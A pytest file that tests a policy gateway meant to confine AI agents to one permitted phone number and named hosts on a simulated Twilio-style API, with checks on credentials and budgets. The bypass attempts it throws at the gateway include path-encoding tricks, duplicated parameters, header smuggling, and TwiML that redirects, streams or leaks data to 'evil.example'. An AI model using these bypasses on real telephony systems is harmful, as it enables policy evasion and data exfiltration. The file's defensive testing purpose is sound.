"""No way round: each way that leads past a policy somewhere, and that it does not here.

Every agent here may send and call, and reach one number only. The tests try to reach another, or another host.
"""

from __future__ import annotations

import base64
import json
from typing import Any
from urllib.parse import urlencode

import pytest
from test_sdk_agents import STAFF, STRANGER, Agent, send_only

ONLY_STAFF: dict[str, Any] = {"to": {"allow": [STAFF]}}
ANSWER = {"action": "answer"}


@pytest.fixture(scope="module")
def live(start_module: Any) -> Any:
    return start_module(sim_speech_rate="100000", sim_latency_ms="1")


@pytest.fixture(scope="module")
def agent(live: Any) -> Agent:
    return Agent(live, send_only(**ONLY_STAFF))


def messages(live: Any) -> str:
    return f"/2010-04-01/Accounts/{live.account_sid}/Messages"


def post(live: Any, agent: Agent, path: str, *pairs: tuple[str, str], **headers: str) -> int:
    body = urlencode(pairs or [("To", STRANGER), ("From", live.number), ("Body", "x")]).encode()
    return int(live.raw("POST", path, body, auth=agent.key, headers=headers)[0])


def nothing_arrived(live: Any, number: str = STRANGER) -> bool:
    return live.inbox(number) == []


# How a recipient is written


@pytest.mark.parametrize(
    "to",
    [
        STRANGER,
        "9005550199",
        "+1 (900) 555-0199",
        " +19005550199 ",
        f"whatsapp:{STRANGER}",
        f"rcs:{STRANGER}",
        f"messenger:{STRANGER}",
        "WhatsApp:+19005550199",
    ],
)
def test_a_message_reaches_nobody_else_however_the_number_is_written(live: Any, agent: Agent, to: str) -> None:
    assert post(live, agent, f"{messages(live)}.json", ("To", to), ("From", live.number), ("Body", "x")) in (400, 403)
    assert nothing_arrived(live)


@pytest.mark.parametrize(
    "to", [STRANGER, "client:alice", "sip:+19005550199@example.com", "sip:bob@evil.example", "sips:a@b"]
)
def test_a_call_reaches_nobody_else_over_any_address(agent: Agent, to: str) -> None:
    quiet = "<Response><Say>Hi</Say></Response>"
    agent.refused(lambda: agent.client.calls.create(to=to, from_=agent.live.number, twiml=quiet))


@pytest.mark.parametrize("order", [(STAFF, STRANGER), (STRANGER, STAFF)])
def test_a_parameter_that_stands_twice_is_refused_as_such(live: Any, agent: Agent, order: tuple[str, str]) -> None:
    pairs = [("To", each) for each in order]
    assert post(live, agent, f"{messages(live)}.json", *pairs, ("From", live.number), ("Body", "x")) == 400


def test_what_stands_in_the_query_of_a_post_is_no_recipient(live: Any, agent: Agent) -> None:
    path = f"{messages(live)}.json?{urlencode({'To': STRANGER})}"
    assert post(live, agent, path, ("To", STAFF), ("From", live.number), ("Body", "x")) in (201, 400)
    assert nothing_arrived(live)


# How a path is written


@pytest.mark.parametrize(
    "change",
    [
        ("Messages.json", "Messages"),
        ("Messages.json", "Messages.xml"),
        ("Messages.json", "Messages.csv"),
        ("Messages.json", "Messages.json/"),
        ("Messages.json", "messages.json"),
        ("Messages.json", "Messages.JSON"),
        ("/Accounts", "//Accounts"),
        ("/Accounts", "/x/../Accounts"),
        ("/Accounts", "/%2e%2e/2010-04-01/Accounts"),
        ("Messages.json", "%4Dessages.json"),
        ("/Messages", "%2FMessages"),
        ("/2010", "/api/2010"),
    ],
)
def test_no_way_of_writing_the_path_leads_past_the_policy(live: Any, agent: Agent, change: tuple[str, str]) -> None:
    assert post(live, agent, f"{messages(live)}.json".replace(*change)) in (400, 401, 403, 404)
    assert nothing_arrived(live)


def test_the_hosts_of_products_lead_to_the_same_gate(live: Any, agent: Agent) -> None:
    reader = Agent(live, {"areas": {"voice": "read"}})
    assert live.raw("GET", "/messaging/v1/Services", auth=reader.key)[0] == 403
    assert live.raw("GET", "/v1/Services", auth=reader.key, headers={"Host": "messaging.twilio.com"})[0] == 403
    assert post(live, agent, f"{messages(live)}.json", Host="api.twilio.com") == 403
    pairs = [("AccountSid", live.account_sid)]
    assert post(live, agent, "/v1/Keys", *pairs, Host="iam.twilio.com") == 403


def test_what_nobody_described_is_not_there_for_agents_either(live: Any, agent: Agent) -> None:
    assert post(live, agent, f"/2010-04-01/Accounts/{live.account_sid}/Faxes.json") == 404


# What stands in the place of a sender, and other ways to send


def test_a_service_sends_only_with_senders_that_the_agent_may_use(live: Any) -> None:
    owner = live.client()
    service = owner.messaging.v1.services.create(friendly_name="Pool")
    offer = owner.available_phone_numbers("US").local.list(limit=1)[0].phone_number
    for number in (owner.incoming_phone_numbers.create(phone_number=offer), owner.incoming_phone_numbers.list()[-1]):
        service.phone_numbers.create(phone_number_sid=number.sid)
    bound = Agent(live, send_only(**ONLY_STAFF, **{"from": [live.number]}))
    for way in ({"messaging_service_sid": service.sid, "from_": None}, {"from_": service.sid}):
        bound.refused(lambda way=way: bound.send(**way))
    bound.set({"areas": {"messaging": "send"}, "rules": [{"for": "any", "to": [STAFF]}]})
    bound.refused(lambda: bound.send(STRANGER, messaging_service_sid=service.sid, from_=None))


def test_an_agent_cannot_put_senders_into_a_pool_or_change_where_answers_go(live: Any, agent: Agent) -> None:
    service = live.client().messaging.v1.services.create(friendly_name="Theirs")
    path = f"/messaging/v1/Services/{service.sid}"
    assert post(live, agent, f"{path}/PhoneNumbers", ("PhoneNumberSid", "PN" + "0" * 32)) == 403
    assert post(live, agent, path, ("InboundRequestUrl", "http://evil.example/")) == 403


def test_consents_and_contacts_in_bulk_are_an_area_that_is_off(live: Any, agent: Agent) -> None:
    item = json.dumps(
        {"contact_id": STRANGER, "correlation_id": "0" * 32, "sender_id": live.number, "status": "opt-in"}
    )
    assert post(live, agent, "/accounts/v1/Consents/Bulk", ("Items", item)) == 403
    assert post(live, agent, "/accounts/v1/Contacts/Bulk", ("Items", item)) == 403


def test_a_participant_is_a_recipient(live: Any, agent: Agent) -> None:
    path = f"/2010-04-01/Accounts/{live.account_sid}/Conferences/room/Participants.json"
    assert post(live, agent, path, ("To", STRANGER), ("From", live.number)) == 403


def test_a_verification_call_is_a_call(live: Any) -> None:
    caller = Agent(live, {"areas": {"phone_numbers": "full", "voice": "full"}, "rules": [{"for": "any", **ONLY_STAFF}]})
    path = f"/2010-04-01/Accounts/{live.account_sid}/OutgoingCallerIds.json"
    assert post(live, caller, path, ("PhoneNumber", STRANGER)) == 403


# Documents: what a call does once it was answered


@pytest.mark.parametrize(
    "verb",
    [
        f"<Dial>{STRANGER}</Dial>",
        f"<Dial><Number>{STRANGER}</Number></Dial>",
        "<Dial><Sip>sip:bob@evil.example</Sip></Dial>",
        f'<Sms to="{STRANGER}">x</Sms>',
        "<Redirect>http://evil.example/</Redirect>",
        '<Gather action="http://evil.example/"><Say>Your code?</Say></Gather>',
        '<Start><Stream url="wss://evil.example/"/></Start>',
        '<Record recordingStatusCallback="http://evil.example/"/>',
        "<Play>http://evil.example/leak</Play>",
    ],
)
def test_twiml_in_a_request_reaches_nobody_and_leads_nowhere(agent: Agent, verb: str) -> None:
    twiml = f"<Response><Say>Hello</Say>{verb}</Response>"
    agent.refused(lambda: agent.client.calls.create(to=STAFF, from_=agent.live.number, twiml=twiml))


@pytest.mark.parametrize(
    "parameter",
    ["status_callback", "fallback_url", "recording_status_callback", "async_amd_status_callback"],
)
def test_no_url_of_a_call_leads_to_a_host_that_is_not_named(live: Any, parameter: str) -> None:
    bound = Agent(live, send_only(**ONLY_STAFF, urls={"hosts": ["127.0.0.1"]}))
    given = {"url": "http://127.0.0.1:9/", parameter: "http://evil.example/?secret=1"}
    bound.refused(lambda: bound.client.calls.create(to=STAFF, from_=live.number, **given))


def script(live: Any, number: str, *steps: dict[str, Any]) -> None:
    live.control("PUT", f"handsets/{number.replace('+', '%2B')}", {"condition": "on", "voice_script": list(steps)})


def dialed(live: Any, eventually: Any, sid: str) -> list[tuple[str, str]]:
    final = {"completed", "busy", "failed", "no-answer", "canceled"}
    assert eventually(lambda: live.client().calls(sid).fetch().status in final)
    return [(each.to, each.status) for each in live.client().calls.list(parent_call_sid=sid)]


def test_whom_a_document_dials_is_judged_when_it_dials(live: Any, eventually: Any, application: Any) -> None:
    script(live, STAFF, ANSWER)
    friend = "+14155550102"
    script(live, friend, ANSWER, {"action": "hangup"})
    bound = Agent(live, send_only(to={"allow": [STAFF, friend]}, urls={"documents": "any"}))
    document = f"<Response><Dial>{STRANGER}</Dial><Dial>{friend}</Dial></Response>"
    application.answers["/dials"] = (200, "text/xml", document.encode())
    made = bound.client.calls.create(to=STAFF, from_=live.number, url=f"{application.url}/dials")
    assert set(dialed(live, eventually, made.sid)) == {(STRANGER, "failed"), (friend, "completed")}
    told = live.control("GET", f"calls/{made.sid}/transcript")["transcript"]
    assert any("900" in each["text"] and "not among the recipients" in each["text"] for each in told)


def test_twiml_of_a_trusted_agent_is_judged_when_it_dials(live: Any, eventually: Any) -> None:
    script(live, STAFF, ANSWER)
    bound = Agent(live, send_only(**ONLY_STAFF, urls={"documents": "any"}))
    twiml = f"<Response><Dial>{STRANGER}</Dial></Response>"
    made = bound.client.calls.create(to=STAFF, from_=live.number, twiml=twiml)
    assert dialed(live, eventually, made.sid) == [(STRANGER, "failed")]


def test_a_document_cannot_lead_on_to_a_host_that_is_not_named(live: Any, eventually: Any, application: Any) -> None:
    script(live, STAFF, ANSWER)
    bound = Agent(live, send_only(**ONLY_STAFF, urls={"hosts": ["127.0.0.1"]}))
    document = b"<Response><Redirect>http://localhost:9/leak?code=1234</Redirect></Response>"
    application.answers["/leads"] = (200, "text/xml", document)
    made = bound.client.calls.create(to=STAFF, from_=live.number, url=f"{application.url}/leads")
    assert dialed(live, eventually, made.sid) == []
    told = live.control("GET", f"calls/{made.sid}/transcript")["transcript"]
    assert any("70051" in each["text"] and "host" in each["text"] for each in told)


def test_what_an_agent_lets_another_call_do_is_judged_by_its_policy(live: Any, eventually: Any) -> None:
    script(live, STAFF, ANSWER)
    hold = "<Response><Pause length='30'/></Response>"
    made = live.client().calls.create(to=STAFF, from_=live.number, twiml=hold)
    assert eventually(lambda: live.client().calls(made.sid).fetch().status == "in-progress")
    bound = Agent(live, send_only(**ONLY_STAFF, urls={"documents": "any"}))
    bound.client.calls(made.sid).update(twiml=f"<Response><Dial>{STRANGER}</Dial></Response>")
    assert dialed(live, eventually, made.sid) == [(STRANGER, "failed")]


# Later: what was allowed when it was asked for


@pytest.mark.parametrize("change", ["policy", "switch", "deletion", "nothing"])
def test_a_scheduled_message_is_judged_again_when_it_is_sent(launch: Any, eventually: Any, change: str) -> None:
    live = launch(clock="test", clock_start="2026-11-25T12:00:00Z")
    owner = live.client()
    service = owner.messaging.v1.services.create(friendly_name="Later")
    service.phone_numbers.create(phone_number_sid=owner.incoming_phone_numbers.list()[0].sid)
    bound = Agent(live, send_only(**ONLY_STAFF))
    later = {"from_": None, "messaging_service_sid": service.sid, "schedule_type": "fixed"}
    made = bound.send(**later, send_at="2026-11-25T13:00:00Z")
    if change == "policy":
        bound.set({"areas": {"messaging": "read"}})
    elif change == "switch":
        live.control("PUT", f"agents/{bound.name}/switch", {"stopped": True, "reason": "Spam"})
    elif change == "deletion":
        live.control("DELETE", f"agents/{bound.name}")
    live.control("POST", "clock", {"advance_s": 3700})
    final = "delivered" if change == "nothing" else "failed"
    assert eventually(lambda: owner.messages(made.sid).fetch().status == final)
    assert owner.messages(made.sid).fetch().error_code == (None if change == "nothing" else 70051)


# Credentials and accounts


def test_no_agent_makes_a_key_or_reads_a_token(live: Any) -> None:
    areas = dict.fromkeys(("accounts", "api_keys", "messaging", "voice", "tokens", "sip"), "full")
    mighty = Agent(live, {"areas": areas})
    client = mighty.client
    for make in (
        client.new_keys.create,
        client.new_signing_keys.create,
        lambda: client.iam.v1.new_api_key.create(account_sid=live.account_sid),
        client.tokens.create,
        client.api.accounts.create,
        client.api.accounts(live.account_sid).fetch,
    ):
        assert mighty.refused(make).details["reason_code"] == "credentials"


def test_a_further_key_of_an_agent_is_held_to_the_same_policy_and_counts(live: Any) -> None:
    bound = Agent(live, send_only(daily=1))
    made = live.control("POST", f"agents/{bound.name}/keys", {})
    bound.send()
    bound.key = (made["api_key"]["sid"], made["api_key"]["secret"])
    assert "used up" in bound.refused(bound.send).msg


def test_rotating_and_deleting_close_the_old_keys_at_once(live: Any) -> None:
    bound = Agent(live, {"areas": {"messaging": "send"}})
    old = bound.key
    made = live.control("POST", f"agents/{bound.name}/rotation", {})
    bound.refused(bound.send, 20003)
    bound.key = (made["api_key"]["sid"], made["api_key"]["secret"])
    assert bound.send().sid
    live.control("DELETE", f"agents/{bound.name}")
    bound.refused(bound.send, 20003)
    bound.key = old
    bound.refused(bound.send, 20003)


def test_subaccounts_are_closed_in_paths_parameters_and_headers(live: Any, agent: Agent) -> None:
    below = live.client().api.accounts.create(friendly_name="Below")
    assert post(live, agent, f"/2010-04-01/Accounts/{below.sid}/Messages.json", ("To", STAFF), ("Body", "x")) == 403
    mighty = Agent(live, {"areas": {"api_keys": "full"}})
    path = f"/iam/v1/Keys?{urlencode({'AccountSid': below.sid})}"
    assert live.raw("GET", path, auth=mighty.key)[0] == 403


def test_no_agent_reaches_the_control_interface(live: Any) -> None:
    areas = live.control("GET", f"agents/{Agent(live, None).name}/matrix")["areas"]
    mighty = Agent(live, {"areas": dict.fromkeys(areas, "full")})
    mine = json.dumps({"areas": {"messaging": "full"}}).encode()
    calls = [
        ("PUT", f"agents/{mighty.name}/policy", mine),
        ("POST", f"agents/{mighty.name}/keys", b"{}"),
        ("PUT", f"agents/{mighty.name}/switch", b'{"stopped": false}'),
        ("POST", f"handsets/{STRANGER.replace('+', '%2B')}/messages", json.dumps({"to": live.number}).encode()),
        ("GET", "requests", None),
        ("GET", "approvals", None),
        ("POST", "approvals/AQ" + "0" * 32, b'{"decision": "approve"}'),
    ]
    for method, path, body in calls:
        found = live.raw(method, f"/cordboard/v1/{path}", body, content_type="application/json", auth=mighty.key)
        assert (found[0], path) == (403, path)


def test_the_name_of_an_account_beside_the_secret_of_an_agent_opens_nothing(live: Any, agent: Agent) -> None:
    secret = agent.key[1]
    assert live.raw("GET", f"{messages(live)}.json", auth=(live.account_sid, secret))[0] == 401
    both = base64.b64encode(f"{live.account_sid}:{live.auth_token}".encode()).decode()
    two = {"Authorization": f"Basic {base64.b64encode(':'.join(agent.key).encode()).decode()}, Basic {both}"}
    assert live.raw("GET", f"{messages(live)}.json", headers=two)[0] == 401


# Money


def test_of_a_hundred_calls_at_once_exactly_ten_pass_a_budget_for_ten(live: Any) -> None:
    from concurrent.futures import ThreadPoolExecutor

    bound = Agent(live, {"areas": {"messaging": "send"}, "budgets": {"usd_per_day": "0.079"}})  # ten of 0.0079
    with ThreadPoolExecutor(20) as pool:
        pairs = (("To", STAFF), ("From", live.number), ("Body", "Hi"))
        path = f"{messages(live)}.json"
        statuses = list(pool.map(lambda _: post(live, bound, path, *pairs), range(100)))
    assert (statuses.count(201), statuses.count(403)) == (10, 90)


def test_a_budget_survives_a_restart_and_what_failed_is_given_back(launch: Any, tmp_path: Any, eventually: Any) -> None:
    folder = tmp_path / "kept"
    first = launch(folder, sim_latency_ms="1")
    bound = Agent(first, {"areas": {"messaging": "send"}, "budgets": {"usd_per_month": "0.01"}})
    bound.send()
    first.process.kill()
    first.process.wait(30)
    bound.live = launch(folder, sim_latency_ms="1")
    assert bound.refused(bound.send).details["rule"] == "budgets.usd_per_month"


def test_a_call_that_nobody_answers_gives_its_cost_back(live: Any, eventually: Any) -> None:
    bound = Agent(live, {"areas": {"voice": "send"}, "budgets": {"usd_per_day": "0.02"}})
    script(live, "+14155550103", {"action": "decline"})
    quiet = "<Response><Hangup/></Response>"

    def call() -> Any:
        return bound.client.calls.create(to="+14155550103", from_=live.number, twiml=quiet)

    first = call()
    assert eventually(lambda: live.client().calls(first.sid).fetch().status == "busy")
    assert call().sid
